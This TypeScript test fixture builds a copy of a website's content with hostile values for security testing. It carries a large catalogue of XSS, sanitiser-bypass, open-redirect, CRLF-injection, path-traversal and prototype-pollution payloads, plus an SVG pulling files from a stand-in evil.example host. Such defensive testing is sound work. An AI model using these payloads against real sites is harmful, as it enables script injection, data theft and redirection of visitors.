import { cp, mkdir, mkdtemp, readdir, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { CALL_IDS, callOf } from '../../src/content/contract/calls.ts';
import { LOCALE_CODES } from '../../src/site/locales.ts';
import { CONTENT_FOLDER } from '../support/content.ts';
import { changeStrings, type Kind } from './content-fields.ts';

/** Texts that would be markup, script or template if they were not escaped. */
export const HOSTILE_WORDS =
  `"'><img src=x onerror=attack()><script>attack()</script></title></style></textarea></script><svg/onload=attack()>` +
  '--><x-attack data-attack=1 style=color:red>&lt;script&gt;attack()&lt;/script&gt;{{attack()}}$' +
  '{attack()}\u2028';

const EVIL = 'https://evil.example';

/** What an editor's HTML can hold, and what the cleaning of others has let through. */
const HOSTILE_HTML: readonly string[] = [
  '<p onclick="attack()" data-attack="1" style="color:red" class="site-header" id="main">words</p>',
  '<script>attack()</script><script src="https://evil.example/a.js"></script>',
  '<img src=x onerror=attack()><img src="https://evil.example/pixel.png"><image src=x onerror=attack()>',
  '<svg onload=attack()><script>attack()</script><a xlink:href="javascript:attack()"><text>x</text></a><use href="data:image/svg+xml,x#x"/></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=attack()&gt;"></table></mtext></math>',
  '<math><mi xlink:href="javascript:attack()">x</mi></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=attack()>',
  '<p><a href="javascript:attack()">a</a><a href="&#106;avascript:attack()">b</a><a href="java&#9;script:attack()">c</a></p>',
  '<p><a href=" &#14; javascript:attack()">d</a><a href="JaVaScRiPt:attack()">e</a><a href="vbscript:x">f</a><a href="//evil.example">g</a></p>',
  '<p><a href="data:text/html,<script>attack()</script>">h</a><a href="/\\evil.example">i</a><a href="\\\\evil.example">j</a></p>',
  '<p><a href="https://evil.example/&quot;onmouseover=&quot;attack()" target="_blank" ping="https://evil.example">k</a></p>',
  '<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>attack()</script>"></iframe><object data="https://evil.example"></object>',
  '<embed src="https://evil.example"><applet code="x"></applet><frameset><frame src="https://evil.example"></frameset><portal src="https://evil.example"></portal>',
  '<form action="https://evil.example"><input name="password" autofocus onfocus="attack()"><button formaction="javascript:attack()">send</button></form>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example"><link rel="stylesheet" href="https://evil.example/a.css">',
  '<style>@import url(https://evil.example/a.css);*{display:none}</style><p style="background:url(https://evil.example/a.png)">x</p>',
  '<video src="https://evil.example/a.mp4" onerror="attack()"><source onerror="attack()"></video><audio src=x onerror=attack()></audio>',
  '<details open ontoggle="attack()"><summary>x</summary></details><marquee onstart="attack()">x</marquee><body onload="attack()">',
  '<template><script>attack()</script></template><noscript><p title="</noscript><img src=x onerror=attack()>"></noscript>',
  '<textarea><img title="</textarea><img src=x onerror=attack()>"></textarea><title><img src=x onerror=attack()></title>',
  '<xmp><img src=x onerror=attack()></xmp><plaintext-off><listing><img src=x onerror=attack()></listing>',
  '<p id="attributes" name="cookie"><a id="location" href="https://evil.example"></a><a name="body"></a></p>',
  '<table><caption onclick=attack()>t</caption><tr><td background="https://evil.example/a.png" onclick=attack()>x</td><th scope="javascript:x" colspan="99999999">y</th></tr></table>',
  '<ol start="1" type="1" onpointerenter="attack()"><li value="1" onclick="attack()">x</li></ol><dl><dt is="x-attack">x</dt></dl>',
  '<x-attack data-attack="2">x</x-attack><p><x-attack data-attack="3" onclick="attack()">y</x-attack></p><slot onslotchange="attack()"></slot>',
  '<![CDATA[<img src=x onerror=attack()>]]><!--><img src=x onerror=attack()>--><?xml version="1.0"?><!DOCTYPE html [<!ENTITY x "y">]>',
  '<p>[diagram: <b onclick=attack()>v-model</b>]</p><p>[diagram: __proto__]</p><p>[diagram: constructor]</p><p lang="&quot;><script>attack()</script>">x</p>',
  '<<script>script>attack()<</script>/script><scr<script>ipt>attack()</scr</script>ipt><p/onclick=attack()>x',
  `<p>${HOSTILE_WORDS}</p>`,
  '<plaintext><img src=x onerror=attack()>',
];

const HOSTILE_LINKS: readonly string[] = [
  'javascript:attack()',
  'JAVASCRIPT:attack()',
  'java\tscript:attack()',
  '\u0001javascript:attack()',
  'data:text/html,<script>attack()</script>',
  'vbscript:attack()',
  '//evil.example/',
  '/\\evil.example/',
  '/\t/evil.example/',
  '/services"onmouseover="attack()',
  '/services?"><script>attack()</script>',
  '#"><script>attack()</script>',
  'https://evil.example/"onmouseover="attack()',
  'https://evil.example/\r\nset-cookie: stolen=1',
  'https://user:password@evil.example/',
  'mailto:a@b.example?body="><script>attack()</script>\r\nContact: https://evil.example',
  'tel:+90"onclick="attack()',
];

const HOSTILE_MEDIA: readonly string[] = [
  'javascript:attack()',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="attack()"/>',
  `${EVIL}/pixel.png`,
  '//evil.example/pixel.svg',
  '/media/../en/service.json',
  '/media/%2e%2e/en/service.json',
  '/media/..%2f..%2fpackage.json',
  '/media/x.svg"><script>attack()</script>',
  '/media/icons/service-homologation.svg"onerror="attack()',
  'file:///etc/passwd',
  '__proto__',
];

const HOSTILE_BY_KIND: Readonly<Partial<Record<Kind, readonly string[]>>> = {
  link: HOSTILE_LINKS,
  media: HOSTILE_MEDIA,
  slug: [
    '"><script>attack()</script>',
    '../../package.json',
    '//evil.example',
    'javascript:attack()',
    '__proto__',
    'constructor',
    'a\r\nb',
    'page',
    '.',
    '%2e%2e',
  ],
  key: [HOSTILE_WORDS, '__proto__', 'constructor', '../en', 'a"onclick="attack()'],
  colour: [
    '#fff;background:url(https://evil.example)',
    'red',
    'url(https://evil.example/a.png)',
    '#fff}</style><script>attack()</script>',
    'expression(attack())',
  ],
  date: [
    '2026-11-20"><script>attack()</script>',
    '2026-11-20T<img src=x onerror=attack()>',
    'javascript:attack()',
    '2026-02-30',
    '9999999-01-01',
  ],
  email: ['"><script>attack()</script>@evil.example', 'a@b.example?cc=evil@evil.example', 'a@b.example\r\nBcc: evil@evil.example'],
  frame: [
    'javascript:attack()',
    'https://evil.example/frame',
    'https://www.openstreetmap.org.evil.example/',
    'https://www.openstreetmap.org@evil.example/',
    'data:text/html,x',
  ],
  choice: ['__proto__', '"><script>attack()</script>'],
  number: ['1e999', '-1', '<img src=x onerror=attack()>', '12345678901234567890'],
};

/** Which kinds of fields a copy of the content has its hostile values in. */
export type Attack = 'words and texts' | 'addresses and forms' | 'pictures';

/** Property names that every object has: lookups in the site's tables must not find them. */
const INHERITED = ['constructor', '__proto__', 'toString', 'hasOwnProperty'];

function changeFor(attack: Attack): (text: string, kind: Kind, field: string) => string | undefined {
  let turn = 0;
  const next = (values: readonly string[]) => values[turn++ % values.length];
  return (text, kind, field) => {
    if (attack === 'words and texts') {
      if (field === 'contact.box.class') return next(INHERITED);
      // Names the post that shows the comment.
      if (field === 'comment.post') return undefined;
      if (kind === 'words') return text.slice(0, 24) + HOSTILE_WORDS;
      return kind === 'html' ? HOSTILE_HTML.join('\n') : undefined;
    }
    if (field === 'setting.securityContact') return 'mailto:a@b.example\r\nContact: https://evil.example';
    const values = HOSTILE_BY_KIND[kind];
    // Only every second one, so that the targets of the others still exist.
    return values && turn++ % 2 === 0 ? next(values) : undefined;
  };
}

/** A drawing that tries to run scripts, to load files and to leak data. */
export const HOSTILE_SVG = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="48" height="48" viewBox="0 0 48 48" onload="attack()">
<script>attack()</script><script href="https://evil.example/a.js"/>
<style>@import url("https://evil.example/a.css"); rect { fill: url("https://evil.example/fill.svg#x") }</style>
<foreignObject width="48" height="48"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="https://evil.example"/><img src="x" onerror="attack()"/></body></foreignObject>
<image href="https://evil.example/pixel.png" width="1" height="1"/><image xlink:href="file:///etc/passwd" width="1" height="1"/>
<use href="https://evil.example/use.svg#x"/><a href="javascript:attack()"><rect width="48" height="48" onclick="attack()"/></a>
<animate attributeName="href" to="javascript:attack()" begin="0s"/><set attributeName="onmouseover" to="attack()"/>
</svg>`;

async function hostilePictures(from: string, to: string): Promise<void> {
  await cp(from, to, { recursive: true });
  for (const name of await readdir(to, { recursive: true })) if (name.endsWith('.svg')) await writeFile(join(to, name), HOSTILE_SVG);
}

type Plain = Record<string, unknown>;
/** Gives every picture a caption, and the fields that editors left empty a value, so that there is something to attack. */
function fill(path: string, attributes: Plain, posts: readonly string[]): void {
  const icon = () => ({
    data: { id: 1, attributes: { url: '/media/icons/service-homologation.svg', alternativeText: 'a', width: 48, height: 48 } },
  });
  if (path === '/hompage') {
    for (const fact of (attributes['Facts'] ?? []) as Plain[]) fact['iconImage'] ??= icon();
    for (const info of ((attributes['AboutUs'] as Plain | undefined)?.['iconInfo'] ?? []) as Plain[]) info['icon'] ??= icon();
  }
  if (path === '/comment')
    attributes['comments'] = posts.map((post, index) => ({
      id: index + 1,
      post,
      name: 'A visitor of the site',
      website: 'https://visitor.example/',
      text: 'A comment on this post.',
      date: '2026-11-20',
    }));
  for (const partner of (path === '/partner' ? attributes['partners'] : []) as Plain[]) partner['url'] ??= 'https://partner.example/';
  const document = () => ({
    title: 'A document',
    file: { data: { attributes: { url: '/media/documents/motavia-lead-engineering.pdf' } } },
  });
  const search = { searchTitle: 'A title', searchDescription: 'A description' };
  for (const entry of Object.values(attributes).flat() as Plain[]) {
    if (['/service', '/education', '/solution', '/ooreneo'].includes(path)) entry['documents'] ??= [document()];
    if (entry['directLine']) Object.assign(entry['directLine'], { portrait: icon() });
    for (const term of [entry['category'], entry['tags']].flat() as (Plain | undefined)[]) if (term) Object.assign(term, search);
  }
  const walk = (value: unknown): void => {
    if (Array.isArray(value)) value.forEach(walk);
    else if (typeof value === 'object' && value !== null) {
      const isFile = 'url' in value && ('alternativeText' in value || String(value.url).endsWith('.pdf'));
      if (isFile) Object.assign(value, { alternativeText: 'a', caption: 'a caption', updatedAt: '2026-11-20T08:00:00.000Z' });
      Object.values(value).forEach(walk);
    }
  };
  walk(attributes);
}

/** Ids of entries are numbers here and may be text elsewhere. */
function nameEntries(value: unknown): void {
  if (!Array.isArray(value)) return;
  for (const [index, entry] of value.entries()) if (typeof entry === 'object' && entry !== null) (entry as Plain)['id'] ??= index + 1;
}

export interface HostileContent {
  /** For `CONTENT_FOLDER`. */
  readonly folder: string;
  /** Fields of the contract that hold a hostile value, or were offered one. */
  readonly met: ReadonlySet<string>;
  remove(): Promise<void>;
}

/** The embedded copy with hostile values in every field of the contract that an attack is about. */
export async function hostileContent(attack: Attack): Promise<HostileContent> {
  const folder = await mkdtemp(join(tmpdir(), 'hostile-content-'));
  const met = new Set<string>();
  await symlink(join(CONTENT_FOLDER, 'pictures'), join(folder, 'pictures'));
  if (attack === 'pictures') await hostilePictures(join(CONTENT_FOLDER, 'media'), join(folder, 'media'));
  else await symlink(join(CONTENT_FOLDER, 'media'), join(folder, 'media'));
  const change = changeFor(attack);
  const read = async (locale: string, path: string) =>
    JSON.parse(await readFile(join(CONTENT_FOLDER, locale, `${path}.json`), 'utf8')) as { data: { attributes: Plain } };
  for (const locale of LOCALE_CODES) {
    await mkdir(join(folder, locale));
    const posts = ((await read(locale, '/post')).data.attributes['posts'] as Plain[]).map(({ url }) => String(url));
    for (const path of new Set(CALL_IDS.map((call) => callOf(call).path))) {
      const response = await read(locale, path);
      if (attack !== 'pictures') {
        fill(path, response.data.attributes, posts);
        Object.values(response.data.attributes).forEach(nameEntries);
        for (const call of CALL_IDS.filter((id) => callOf(id).path === path))
          for (const field of changeStrings(call, response, change)) met.add(`${call}.${field}`);
      }
      await writeFile(join(folder, locale, `${path}.json`), JSON.stringify(response));
    }
  }
  return { folder, met, remove: () => rm(folder, { recursive: true, force: true }) };
}
